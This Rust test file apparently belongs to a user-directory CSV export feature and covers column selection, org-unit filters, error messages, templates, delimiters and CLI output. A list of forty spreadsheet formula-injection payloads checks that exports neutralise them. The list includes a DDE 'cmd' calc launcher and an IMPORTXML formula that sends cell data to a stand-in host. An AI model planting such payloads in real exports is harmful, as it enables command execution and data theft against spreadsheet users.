//! What an export can be asked for, and what can be trusted of it.

use std::collections::BTreeMap;

use entity::attribute::AttributeType;
use entity::integration::IntegrationKind;
use roster::directory::csv::{Delimiter, ExportOptions, ImportOptions, Style, split_columns};
use roster::directory::{Directory, Error, NewAttribute, SyncMode, UserChange};
use roster::index::AccountBy;
use roster::value::GlobalId;
use serde_json::{Value as Json, json};
use sha2::{Digest, Sha256};

use crate::support::{
    Home, Site, account, attribute, cast, export, export_as, filter, import, in_each_home, integration, me, on_both,
    problems, tables, unit, user, violations,
};

/// The options that parameters of an address say.
fn options(parameters: &[(&str, &str)]) -> ExportOptions {
    ExportOptions::from_parameters(&pairs(parameters)).unwrap()
}

fn pairs(parameters: &[(&str, &str)]) -> Vec<(String, String)> {
    parameters.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect()
}

/// Why there is no such export.
async fn refused(directory: &Directory, parameters: &[(&str, &str)]) -> Error {
    match ExportOptions::from_parameters(&pairs(parameters)) {
        Err(error) => error,
        Ok(options) => match directory.export_users(&options).await {
            Err(error) => error,
            Ok(_) => panic!("{parameters:?} can be exported"),
        },
    }
}

/// The cells of a file, the header first.
fn cells(text: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
}

#[test]
fn columns_are_those_that_were_asked_for_in_their_order() {
    on_both(async |site: &Site| {
        cast(site).await;
        let whole = cells(&export(site).await);
        for (asked, titles) in [
            ("Name", vec!["Name"]),
            ("email,ID,name", vec!["Email", "ID", "Name"]),
            (" SUPERVISOR , start_date,Start date", vec![]),
            ("supervisor,start_date,github,Teams", vec!["Supervisor", "Start date", "GitHub", "Teams"]),
            ("id,integration", vec!["ID", "GitHub", "Jira", "Slack"]),
            ("\"Home page\",capacity", vec!["Home page", "Capacity"]),
        ] {
            if titles.is_empty() {
                assert_eq!(violations(&refused(site, &[("columns", asked)]).await), ["columns[2]: DUPLICATE"]);
                continue;
            }
            let given = cells(&export_as(site, &options(&[("columns", asked)])).await);
            let places: Vec<usize> =
                titles.iter().map(|title| whole[0].iter().position(|known| known == title).unwrap()).collect();
            let wanted: Vec<Vec<String>> =
                whole.iter().map(|row| places.iter().map(|&place| row[place].clone()).collect()).collect();
            assert_eq!(given, wanted, "{asked}");
        }
        let without = cells(&export_as(site, &options(&[("accounts", "false")])).await);
        let wanted: Vec<&[String]> = whole.iter().map(|row| &row[..row.len() - 3]).collect();
        assert_eq!(without, wanted);
        let in_parts = export_as(site, &options(&[("columns", "ID"), ("columns", "Name,Email")])).await;
        assert_eq!(in_parts, export_as(site, &options(&[("columns", "ID,Name,Email")])).await);
    });
}

#[test]
fn a_title_with_a_comma_stands_between_quotes_in_a_list_of_columns() {
    assert_eq!(
        split_columns("ID, Name ,\"Level, Grade\",\"say \"\"hi\"\"\""),
        ["ID", "Name", "Level, Grade", "say \"hi\""]
    );
    assert_eq!(split_columns(""), [""; 0]);
    on_both(async |site: &Site| {
        attribute(site, "Level, Grade", AttributeType::Text, &[]).await;
        let text = export_as(site, &options(&[("columns", "\"level, grade\",Name")])).await;
        assert_eq!(text, "\"Level, Grade\",\"Name\"\n");
    });
}

#[test]
fn what_cannot_be_exported_is_refused_with_what_would_be_right() {
    on_both(async |site: &Site| {
        let cast = cast(site).await;
        let parent = unit(site, "Operations", None, None).await;
        unit(site, "Platform", Some(parent), None).await;
        let many = vec!["x"; 257].join(",");
        let cases: [(&[(&str, &str)], &str); 21] = [
            (
                &[("columns", "ID,Departmnt")],
                "columns[1]: no attribute or integration is called `Departmnt`; did you mean `Department`?",
            ),
            (
                &[("columns", "gitub")],
                "columns[0]: no attribute or integration is called `gitub`; did you mean `GitHub`?",
            ),
            (&[("columns", "qqqqqqqqq")], "columns[0]: no attribute or integration is called `qqqqqqqqq`"),
            (
                &[("columns", "Nam,x x x,Emai")],
                "columns[0]: no attribute or integration is called `Nam`; did you mean `Name`? (and 2 more)",
            ),
            (&[("columns", "")], "columns: name at least one column, or leave the list out for all"),
            (&[("columns", "Name,name")], "columns[1]: the column `Name` stands in the list twice"),
            (&[("columns", &many)], "the number of columns is limited to 256"),
            (
                &[("columns", "Name,Jira"), ("accounts", "false")],
                "columns[1]: `Jira` is a column of accounts, which are left out",
            ),
            (
                &[("orgUnit", "Operations/Platfrom")],
                "org unit `Operations/Platfrom` does not exist; did you mean `Operations/Platform`?",
            ),
            (&[("orgUnit", "")], "org unit `` does not exist"),
            (
                &[("orgUnit", "org_00000000000000000000000000000001")],
                "org unit `org_00000000000000000000000000000001` does not exist",
            ),
            (&[("descendants", "true")], "descendants: say below which org unit: give `orgUnit`"),
            (&[("descendants", "1")], "descendants: `1` is neither true nor false"),
            (
                &[("template", "true"), ("orgUnit", "Operations")],
                "template: a template has made-up users, so it takes neither a filter nor an org unit",
            ),
            (&[("raw", "yes")], "raw: `yes` is neither true nor false"),
            (&[("delimiter", "|")], "delimiter: a file is written with `,` or `;` between cells, or with `tab`"),
            (&[("colums", "Name")], "colums: an export takes no such parameter; did you mean `columns`?"),
            (&[("raw", "true"), ("raw", "true")], "raw: it is given twice"),
            (
                &[("filter", "{\"attribute\":{\"key\":\"departement\",\"is\":{\"isEmpty\":true}}}")],
                "filter.attribute.key: there is no attribute `departement`; did you mean `department`?",
            ),
            (
                &[("filter", "all")],
                "filter.text, line 1, character 4: expected `eq`, `ne`, `in`, `co`, `sw`, `ew`, `lt`, `le`, `gt`, `ge`, \
                 `between`, `hasAny`, `hasAll`, `reportsTo` or `pr`, not the end",
            ),
            (&[("raw", "yes"), ("what", "")], "raw: `yes` is neither true nor false (and 1 more)"),
        ];
        for (parameters, says) in cases {
            assert_eq!(refused(site, parameters).await.to_string(), says);
        }
        // An id of another noun is not taken for a path that happens not to be there.
        let error = refused(site, &[("orgUnit", &cast.two_teams.to_global())]).await;
        assert_eq!(error.to_string(), "orgUnit: expected an org unit id, got a user id");
    });
}

#[test]
fn an_org_unit_is_exported_with_its_own_members_or_with_those_below() {
    on_both(async |site: &Site| {
        attribute(site, "Team", AttributeType::Text, &[]).await;
        attribute(site, "Level", AttributeType::Number, &[]).await;
        for (name, team, level) in
            [("Ann", "platform", 3), ("Ben", "sre", 1), ("Cem", "sre", 3), ("Dee", "data", 2), ("Eve", "none", 3)]
        {
            let email = format!("{name}@corp.example");
            user(site, name, &email, json!({ "team": team, "level": level })).await;
        }
        let team = |team: &str| Some(filter(json!({ "attribute": { "key": "team", "is": { "equals": team } } })));
        let platform = unit(site, "Platform", None, team("platform")).await;
        unit(site, "SRE", Some(platform), team("sre")).await;
        unit(site, "Empty", Some(platform), None).await;
        let senior = r#"{"attribute":{"key":"level","is":{"atLeast":3}}}"#;
        let id = platform.to_global();
        let mut sizes = BTreeMap::new();
        let cases: [(&[(&str, &str)], &str); 9] = [
            (&[], "Ann Ben Cem Dee Eve"),
            (&[("orgUnit", "Platform")], "Ann"),
            (&[("orgUnit", &id)], "Ann"),
            (&[("orgUnit", "platform / sre")], "Ben Cem"),
            (&[("orgUnit", "Platform"), ("descendants", "true")], "Ann Ben Cem"),
            (&[("orgUnit", &id), ("descendants", "false")], "Ann"),
            (&[("orgUnit", "Platform/Empty"), ("descendants", "true")], ""),
            (&[("filter", senior)], "Ann Cem Eve"),
            (&[("orgUnit", "Platform"), ("descendants", "true"), ("filter", senior)], "Ann Cem"),
        ];
        for (parameters, names) in cases {
            let options = ExportOptions { columns: Some(vec!["name".into()]), ..options(parameters) };
            let total = site.export_users(&options).await.unwrap().total();
            let text = export_as(site, &options).await;
            let given: Vec<&str> = text.lines().skip(1).collect();
            assert_eq!(given.join(" "), names, "{parameters:?}");
            assert_eq!(total, given.len());
            sizes.insert(names, total);
        }
        sizes
    });
}

/// An attribute whose values are required or unique.
async fn strict(site: &Site, title: &str, r#type: AttributeType, options: &[&str], is_required: bool, is_unique: bool) {
    let new = NewAttribute {
        title: title.into(),
        key: None,
        r#type,
        description: String::new(),
        options: options.iter().map(|option| (*option).to_owned()).collect(),
        is_required,
        is_unique,
        readable_by: None,
        position: None,
    };
    site.create_attribute(&me(), new).await.unwrap();
}

#[test]
fn a_template_shows_every_option_and_imports_as_it_is() {
    on_both(async |site: &Site| {
        use AttributeType::{Date, Email, MultiSelect, Number, Select, Text, Url, User};
        let levels = ["Junior", "Senior", "=Staff", "Principal"];
        strict(site, "Level", Select, &levels, true, false).await;
        strict(site, "Teams", MultiSelect, &["Data", "Web"], false, false).await;
        strict(site, "Supervisor", User, &[], false, false).await;
        for (title, r#type) in [("Badge", Text), ("Desk", Number), ("Since", Date), ("Page", Url), ("Private", Email)] {
            strict(site, title, r#type, &[], true, true).await;
        }
        integration(site, IntegrationKind::GitHub, "GitHub").await;
        let template = options(&[("template", "true")]);
        let text = export_as(site, &template).await;
        let rows = cells(&text);
        assert_eq!(rows[0], cells(&export(site).await)[0], "the columns are those of an export");
        let column = |title: &str| {
            let place = rows[0].iter().position(|known| known == title).unwrap();
            rows[1..].iter().map(|row| row[place].clone()).collect::<Vec<_>>()
        };
        assert_eq!(column("ID"), [""; 4]);
        assert_eq!(column("Level"), ["Junior", "Senior", "'=Staff", "Principal"]);
        assert_eq!(column("Teams")[0], "Data; Web");
        assert_eq!(column("Supervisor")[1], "ann@corp.example");
        assert_eq!(site.export_users(&template).await.unwrap().total(), 4);
        let report = import(site, &text, ImportOptions::default()).await;
        assert_eq!((problems(&report.errors), report.created), (Vec::new(), 4), "{text}");
        let some = export_as(site, &options(&[("template", "true"), ("columns", "Name,Email,Teams")])).await;
        assert_eq!(
            some,
            "\"Name\",\"Email\",\"Teams\"\nAnn Example,ann@corp.example,Data; Web\nBen Example,ben@corp.example,Web\n"
        );
        // Where an option may be chosen once, there are no more users than there are options.
        strict(site, "Room", Select, &["A", "B", "C"], false, true).await;
        let rooms = export_as(site, &options(&[("template", "true"), ("columns", "room,level")])).await;
        assert_eq!(rooms, "\"Room\",\"Level\"\nA,Junior\nB,Senior\nC,'=Staff\n");
    });
}

#[test]
fn a_file_is_read_back_whatever_stands_between_its_cells_and_before_them() {
    on_both(async |site: &Site| {
        cast(site).await;
        let before = tables(site).await;
        let count = site.index().user_count();
        for delimiter in [",", ";", "tab"] {
            for bom in ["true", "false"] {
                let text = export_as(site, &options(&[("delimiter", delimiter), ("bom", bom)])).await;
                let sign = if delimiter == "tab" { "\t" } else { delimiter };
                let begin = if bom == "true" { "\u{feff}" } else { "" };
                assert!(text.starts_with(&format!("{begin}\"ID\"{sign}\"Name\"{sign}\"Email\"{sign}")), "{text}");
                let report = import(site, &text, ImportOptions::default()).await;
                assert_eq!((problems(&report.errors), report.unchanged), (Vec::new(), count), "{text}");
            }
        }
        assert_eq!(tables(site).await, before);
        assert_eq!("\\t".parse(), Ok(Delimiter::Tab));
    });
}

/// What has been seen to run in spreadsheets, or to be taken for a formula after some tool's trimming.
const PAYLOADS: [&str; 40] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://bad.example\",\"click\")",
    "=IMPORTXML(CONCAT(\"https://bad.example\",A1),\"//a\")",
    "=",
    "==",
    "+1+1",
    "+49 30 1234567",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-cmd|' /C calc'!A0",
    "-",
    "--3",
    "-3.5.1",
    "-1e5",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@ann",
    "\t=1+1",
    "\tplain",
    "\r=1+1",
    "\rplain",
    "\n=1+1",
    "\nplain",
    "\r\n=1+1",
    " =1+1",
    "\u{a0}=1+1",
    "\u{3000}=1+1",
    "\u{200b}=1+1",
    "\u{feff}=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠ann",
    "'=1+1",
    "''=1+1",
    "\"=1+1",
    "\"=1+1\"",
    ";=1+1",
    ",=1+1",
    "x\n=1+1",
];

#[test]
fn forty_formulas_leave_as_text_and_come_back_as_they_were() {
    let (texts, raw, values) = on_both(async |site: &Site| {
        attribute(site, "Note", AttributeType::Text, &[]).await;
        for (number, payload) in PAYLOADS.iter().enumerate() {
            user(site, payload, &format!("u{number}@corp.example"), json!({ "note": payload })).await;
        }
        let mut texts = Vec::new();
        for delimiter in [",", ";", "tab"] {
            texts.push(export_as(site, &options(&[("delimiter", delimiter), ("columns", "Name,Email,Note")])).await);
        }
        let raw = export_as(site, &options(&[("raw", "true"), ("columns", "Email,Note")])).await;
        (texts, raw, stored(site).await)
    });
    for row in cells(&texts[0]).iter().skip(1) {
        for cell in row {
            let shown = cell.trim_start_matches(|c: char| c.is_whitespace() || matches!(c, '\u{200b}' | '\u{feff}'));
            assert!(!shown.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']), "a cell that runs: {cell}");
            assert!(!cell.starts_with(['\t', '\r', '\n']), "a cell that some tools trim: {cell}");
        }
    }
    on_both(async |site: &Site| {
        attribute(site, "Note", AttributeType::Text, &[]).await;
        for text in &texts {
            let report = import(site, text, ImportOptions::default()).await;
            assert_eq!(problems(&report.errors), [""; 0]);
        }
        assert_eq!(stored(site).await, values);
    });
    // A raw file has the bytes that are stored.
    let raw: BTreeMap<String, String> =
        cells(&raw).into_iter().skip(1).map(|row| (row[0].clone(), row[1].clone())).collect();
    assert_eq!(raw.len(), PAYLOADS.len());
    assert!(raw.iter().all(|(email, note)| values[email].1 == *note), "{raw:?}");
}

/// The names and notes of all users, by email, from the database.
async fn stored(site: &Site) -> BTreeMap<String, (String, String)> {
    use sea_orm::EntityTrait;
    let users = entity::user::Entity::find().all(site.database().readers()).await.unwrap();
    let note = |attributes: &Json| attributes["note"].as_str().unwrap_or_default().to_owned();
    users.into_iter().map(|user| (user.email, (user.name, note(&user.attributes)))).collect()
}

#[test]
fn an_export_is_of_one_version_down_to_the_emails_and_accounts_that_it_looks_up() {
    on_both(async |site: &Site| {
        attribute(site, "Supervisor", AttributeType::User, &[]).await;
        let github = integration(site, IntegrationKind::GitHub, "GitHub").await;
        let boss = user(site, "Boss", "boss@corp.example", json!({})).await;
        let rows: String = (0..3_200).map(|n| format!("User {n:05},u{n}@corp.example,boss@corp.example\n")).collect();
        import(site, format!("Name,Email,Supervisor\n{rows}"), ImportOptions::default()).await;
        let accounts = (0..3_200).map(|n| account(&n.to_string(), &format!("login{n}"), &format!("u{n}@corp.example")));
        for part in accounts.collect::<Vec<_>>().chunks(1_000) {
            site.sync_accounts(&me(), github, part.to_vec(), SyncMode::Delta).await.unwrap();
        }
        let version = site.version();
        let whole = export(site).await;
        assert!(whole.contains(",boss@corp.example,login3199\n"), "{}", &whole[..200]);
        let mut export = site.export_users(&ExportOptions::default()).await.unwrap();
        let mut all = export.next().await.unwrap().unwrap();
        all.extend(export.next().await.unwrap().unwrap());
        // The email that all cells of a column show, and a second account of a name that named one until now.
        let change = UserChange { email: Some("chief@corp.example".into()), ..UserChange::default() };
        site.update_user(&me(), boss, change).await.unwrap();
        let twins = vec![account("t1", "login3100", ""), account("t2", "login3199", "")];
        site.sync_accounts(&me(), github, twins, SyncMode::Delta).await.unwrap();
        let moved = site.index().resolve(github, AccountBy::ExternalId("3000")).unwrap().account;
        site.link_account(&me(), moved, boss, None).await.unwrap();
        while let Some(piece) = export.next().await.unwrap() {
            all.extend(piece);
        }
        assert_eq!((export.version(), String::from_utf8(all).unwrap() == whole), (version, true));
        assert_eq!(export.rows(), 3_201);
    });
}

#[test]
fn the_command_reports_what_it_wrote_so_that_the_file_can_be_known_again() {
    in_each_home(|home: &Home| {
        home.output_of(&["demo", "--users", "30"]);
        let text = home.exported(&[]);
        let rows = cells(&text).len() as u64 - 1;
        let file = home.path("users.csv");
        let name = file.display().to_string();
        let written = home.run(&["export", &name, "--json"]);
        assert_eq!((written.code, written.error.as_str()), (Some(0), ""));
        assert_eq!(std::fs::read_to_string(&file).unwrap(), text);
        let report: Json = serde_json::from_str(&written.output).unwrap();
        let sha256: String = Sha256::digest(&text).iter().map(|byte| format!("{byte:02x}")).collect();
        let version = report["version"].clone();
        assert_eq!(
            report,
            json!({ "file": name, "version": version, "rows": rows, "bytes": text.len(), "sha256": sha256 })
        );
        assert!(version.as_u64().unwrap() > 1);
        let piped = home.run(&["export", "--json", "-"]);
        let report: Json = serde_json::from_str(&piped.error).unwrap();
        assert_eq!(
            (piped.output, &report["file"], &report["sha256"]),
            (text, &json!("standard output"), &json!(sha256))
        );

        let asked = ["--columns", "Email,\"Name\"", "--delimiter", ";", "--bom", "--raw", "--no-accounts"];
        assert!(home.exported(&asked).starts_with("\u{feff}\"Email\";\"Name\"\n"));
        let server = home.serve();
        let units = server.ask("{ orgUnits(first: 1) { edges { node { id path } } } }", Json::Null);
        let unit = &units["orgUnits"]["edges"][0]["node"];
        let (id, path) = (unit["id"].as_str().unwrap(), unit["path"].as_str().unwrap());
        let below = home.exported(&["--org-unit", id, "--descendants"]);
        assert_eq!(below, server.download(&format!("/export/users.csv?orgUnit={id}&descendants=true")));
        assert_eq!(home.exported(&["--org-unit", path]), home.exported(&["--org-unit", id]));

        // What cannot be had leaves the file as it is.
        let before = std::fs::read(&file).unwrap();
        let wrong = home.run(&["export", &name, "--columns", "Nme"]);
        assert_eq!((wrong.code, wrong.output.as_str()), (Some(2), ""));
        assert_eq!(
            wrong.error,
            "roster: columns[0]: no attribute or integration is called `Nme`; did you mean `Name`?\n"
        );
        assert_eq!(home.run(&["export", &name, "--descendants"]).code, Some(2));
        assert_eq!(std::fs::read(&file).unwrap(), before);
    });
}

#[test]
fn a_style_is_what_the_parameters_say() {
    let asked = options(&[("raw", "true"), ("bom", "true"), ("delimiter", ";")]).style;
    assert_eq!(asked, Style { raw: true, mark: true, delimiter: Delimiter::Semicolon });
    assert_eq!(options(&[]).style, Style::default());
}
